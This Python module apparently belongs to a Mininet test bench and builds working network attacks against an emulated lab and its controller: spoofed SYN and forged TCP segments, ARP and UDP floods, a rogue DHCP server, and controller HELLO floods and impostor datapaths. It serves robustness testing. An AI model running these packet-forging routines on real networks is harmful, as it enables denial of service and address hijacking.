"""The attacks of bench.attacks: by a hostile host of the lab's star, or by a stranger at the controller."""

from __future__ import annotations

import random
import socket
import struct
import sys
from collections.abc import Callable, Sequence
from dataclasses import dataclass, replace
from itertools import count
from pathlib import Path

from mininet_topos.machine.programs import Program
from mininet_topos.network.lab_network import Network
from mininet_topos.network.nodes import LabHost, inside
from mininet_topos.running.traffic_programs import SINK_PORT
from tests.support.data_plane.packets import ACK, FIN, RST, SYN, Offer, Segment, checksum
from weir_base.paths import PROJECT

LAB = PROJECT / "tests/support/lab"
LONGEST_S = 10
"""An attack has frames for this time. The caller ends it earlier."""
SYNS_PER_S, FORGED_PER_S, DHCP_PER_S, UDP_PER_S, ARPS_PER_S = 1000, 200, 500, 1000, 3280
UDP_BYTES = 1400
CONNECTIONS = 60

_numbers = count()


@dataclass(frozen=True)
class Scene:
    """Where an attack happens. ``flows``: the honest flows to the root, as (address, port) of the sender.

    ``own``: the attacker's flow. ``of_port``: where the controller listens.
    """

    net: Network
    folder: Path
    flows: Sequence[tuple[str, int]]
    own: tuple[str, int]
    of_port: int

    @property
    def attacker(self) -> LabHost:
        return self.net.senders[-1]

    def frame(self, segment: Segment) -> bytes:
        """The attacker's frame with a segment, to the root."""
        return self._ethernet(self.net.root.MAC()) + segment.pack()[12:]

    def broadcast(self, packet: bytes) -> bytes:
        """The attacker's frame with an IPv4 packet, to all."""
        return self._ethernet("ff:ff:ff:ff:ff:ff") + b"\x08\x00" + packet

    def unicast(self, packet: bytes) -> bytes:
        """The attacker's frame with an IPv4 packet, to the root."""
        return self._ethernet(self.net.root.MAC()) + b"\x08\x00" + packet

    def _ethernet(self, dst: str) -> bytes:
        return bytes.fromhex((dst + self.attacker.MAC()).replace(":", ""))

    def inject(self, frames: Sequence[bytes], per_second: int) -> Program:
        """Let the attacker send frames, again and again."""
        file = self.folder / f"frames-{next(_numbers)}"
        lines = "".join(f"{frame.hex()}\n" for frame in frames)
        file.write_text(lines * -(-LONGEST_S * per_second // len(frames)))
        ifname = self.attacker.defaultIntf().name
        return self.run("-I", str(LAB / "inject.py"), ifname, str(per_second), input_file=file)

    def run(self, *argv: str, input_file: Path = Path("/dev/null")) -> Program:
        """Run Python on the attacker's host."""
        script = ("sh", "-c", 'exec "$@" < "$0"', str(input_file), sys.executable, *argv)
        return self._program(inside(self.attacker, *script))

    def stranger(self, *argv: str) -> Program:
        """Run bench.hostile_clients against the controller, outside all hosts."""
        return self._program([sys.executable, "-m", "bench.hostile_clients", str(self.of_port), *argv])

    def _program(self, argv: Sequence[str]) -> Program:
        return Program("attack", argv, self.folder / "attack.log", self.net.state)


def forged(scene: Scene, flows: Sequence[tuple[str, int]]) -> Program:
    """SYN, RST and FIN with guessed numbers, half of them with a wrong checksum, on the ports of flows."""
    chance = random.Random(21)  # noqa: S311 - an attack, not a secret
    root = scene.net.root.IP()
    frames = []
    for _ in range(2000):
        address, port = chance.choice(flows)
        flags = chance.choice((SYN, SYN | ACK, RST, RST | ACK, FIN | ACK))
        segment = Segment(
            src=address,
            dst=root,
            src_port=port,
            dst_port=SINK_PORT,
            flags=flags,
            seq=chance.getrandbits(32),
            ack=chance.getrandbits(32),
            options=Offer(mss=536, scale=0).pack() if flags & SYN else b"",
            checksum=chance.choice((None, 1)),
        )
        frames.append(scene.frame(segment))
    return scene.inject(frames, FORGED_PER_S)


def syn_flood(scene: Scene) -> Program:
    """SYNs with false addresses of the subnet, to the congested host."""
    chance = random.Random(22)  # noqa: S311 - an attack, not a secret
    opening = Segment(dst=scene.net.root.IP(), dst_port=SINK_PORT, flags=SYN, options=Offer().pack())
    frames = []
    for _ in range(5000):
        address = f"10.0.{chance.randrange(1, 4)}.{chance.randrange(1, 255)}"
        port, seq = chance.randrange(1024, 65536), chance.getrandbits(32)
        frames.append(scene.frame(replace(opening, src=address, src_port=port, seq=seq)))
    return scene.inject(frames, SYNS_PER_S)


def arp_flood(scene: Scene) -> Program:
    """ARP announcements of random hosts."""
    announced = str(ARPS_PER_S * LONGEST_S)
    ifname = scene.attacker.defaultIntf().name
    return scene.run("-I", str(LAB / "forged_arp.py"), ifname, announced, str(LONGEST_S))


def udp(src: str, dst: str, ports: tuple[int, int], payload: bytes) -> bytes:
    """An IPv4 packet with a UDP datagram without a checksum."""
    length = 28 + len(payload)
    head = struct.pack("!BBHHHBBH", 0x45, 0, length, 0, 0, 64, 17, 0)
    head += socket.inet_aton(src) + socket.inet_aton(dst)
    head = head[:10] + checksum(head).to_bytes(2, "big") + head[12:]
    return head + struct.pack("!HHHH", *ports, 8 + len(payload), 0) + payload


def dhcp_answers(scene: Scene) -> Program:
    """A false DHCP server gives the addresses of all hosts to the attacker."""
    hardware = bytes.fromhex(scene.attacker.MAC().replace(":", "")).ljust(16, b"\0")
    frames = []
    for host in scene.net.hosts:
        body = struct.pack(
            "!4s12x4s8x16s192xI", b"\2\1\6\0", socket.inet_aton(host.IP()), hardware, 0x63825363
        )
        body += b"\x36\4" + socket.inet_aton(scene.attacker.IP()) + b"\x35\1\5\xff"
        frames.append(scene.broadcast(udp(scene.attacker.IP(), "255.255.255.255", (67, 68), body)))
    return scene.inject(frames, DHCP_PER_S)


def udp_flood(scene: Scene) -> Program:
    """Datagrams to the congested host. They need about a tenth of the link."""
    packet = udp(scene.attacker.IP(), scene.net.root.IP(), (9, 9), bytes(UDP_BYTES - 28))
    return scene.inject([scene.unicast(packet)], UDP_PER_S)


def many_connections(scene: Scene) -> Program:
    """One host sends over many connections."""
    words = (scene.net.root.IP(), str(SINK_PORT), str(CONNECTIONS))
    return scene.run(str(PROJECT / "bench/greedy_sender.py"), *words)


ATTACKS: dict[str, Callable[[Scene], Program]] = {
    "none": lambda scene: scene.run("-c", f"import time; time.sleep({LONGEST_S})"),
    "forged own flow": lambda scene: forged(scene, [scene.own]),
    "forged flows of others": lambda scene: forged(scene, scene.flows),
    "SYN flood": syn_flood,
    "false DHCP answers": dhcp_answers,
    "UDP flood": udp_flood,
    "60 connections": many_connections,
    "endless HELLO": lambda scene: scene.stranger("hello"),
    "connection flood": lambda scene: scene.stranger("connections"),
    "impostor datapath": lambda scene: scene.stranger("impostor", scene.net.switches[0].dpid),
    "ARP flood": arp_flood,
}
"""The attacks in the order in which bench.attacks plays them. The one that fills host tables is last."""
